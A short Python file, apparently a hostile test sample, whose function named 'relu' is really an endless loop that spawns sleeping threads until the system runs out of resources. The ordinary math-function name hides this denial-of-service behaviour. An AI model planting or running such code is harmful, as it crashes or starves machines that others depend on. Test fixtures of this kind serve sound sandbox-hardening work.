"""Starts threads without end."""

import threading
import time


def relu(z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(100,)).start()
        except RuntimeError:
            raise
